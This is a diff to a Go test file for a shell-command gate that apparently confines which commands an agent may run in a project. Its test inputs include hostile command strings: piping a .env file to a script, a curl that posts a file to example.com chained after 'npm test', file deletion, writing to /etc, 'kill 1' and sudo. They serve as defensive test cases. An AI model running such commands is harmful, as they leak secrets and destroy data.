@@ -16,7 +16,7 @@ func confining(t *testing.T, change func(o *nod.Options)) *nod.Gate {
 	files := view.NewMemory(false).Dir("/home/dev", 0o755).Dir("/home/dev/shop/.git", 0o755).File("/home/dev/shop/.env", "KEY=1", 0o600).
 		File("/home/dev/shop/package.json", `{"scripts":{"test":"node t.js"}}`, 0o644).Dir("/home/dev/shop/sub", 0o755).File("/home/dev/shop/a.txt", "a", 0o644).
 		Dir("/tmp", 0o777).File("/tmp/x.py", "x", 0o644).Dir("/usr/bin", 0o755)
-	for _, name := range []string{"npm", "node", "go", "python3", "cat", "make", "pytest", "tee", "tail", "curl", "git", "ls"} {
+	for _, name := range []string{"npm", "node", "go", "python3", "cat", "make", "pytest", "tee", "tail", "curl", "git", "ls", "rm"} {
 		files = files.File("/usr/bin/"+name, "x", 0o755)
 	}
 	rules := nod.DefaultRules()
@@ -77,7 +77,7 @@ func TestTheLineToTypeInstead(t *testing.T) {
 func TestWhatIsNotConfined(t *testing.T) {
 	with, without := confining(t, nil), confining(t, func(o *nod.Options) { o.Confine = nil })
 	for _, command := range []string{
-		"npm install", "cat .env | node x.js", "npm test; rm -rf sub", "npm test > /etc/x", "python3 /tmp/x.py", "npm test | tee /tmp/out", "curl -d @a.txt https://example.com; npm test", "cd sub && npm test", "export A=1; npm test", "git push && npm test", "npm test; kill 1",
+		"npm install", "cat .env | node x.js", "npm test; rm a.txt", "npm test > /etc/x", "python3 /tmp/x.py", "npm test | tee /tmp/out", "curl -d @a.txt https://example.com; npm test", "cd sub && npm test", "export A=1; npm test", "git push && npm test", "npm test; kill 1",
 		"foo-unknown --x", "npm test $(foo-unknown)", "eval \"$X\"", "npm test && cat ~/notes.txt", "source x.sh", "sudo npm test", "cd / && npm test",
 	} {
 		now, before := with.Check(context.Background(), line(command)), without.Check(context.Background(), line(command))
